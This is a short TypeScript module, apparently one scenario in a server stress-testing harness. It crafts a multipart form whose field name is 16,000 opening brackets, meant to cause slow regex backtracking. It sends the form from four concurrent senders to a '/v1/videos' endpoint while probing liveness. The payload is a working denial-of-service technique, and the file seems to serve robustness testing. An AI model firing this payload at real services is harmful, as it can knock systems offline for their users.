import { type Duel, models } from './duel.ts'
import { formBytes, send, textPart } from './senders.ts'
import { ask, requestMeasure, submitMeasure } from './working.ts'

/** A form with a field name that takes an expression with backtracking seconds to read. */
export const fieldNames: Duel = {
  title: 'field names of 16 000 brackets',
  async openAttack({ answers }) {
    return {
      allow: [],
      async begin(target) {
        // A part without a file name, of an unknown type: its name decides whether it is a file.
        const head = `content-disposition: form-data; name="${'['.repeat(16_000)}"\r\ncontent-type: application/octet-stream`
        const fields = [textPart('model', models.attacking), textPart('prompt', 'x'), { head, body: 'x' }]
        const form = formBytes(target, '/v1/videos', fields)
        void send({ target, senders: 4, next: () => form }, answers)
      },
    }
  },
  async openMeasures({ target }) {
    return [
      requestMeasure('GET /livez', (signal) => ask(target, '/livez', { signal })),
      submitMeasure('submit', target),
    ]
  },
}
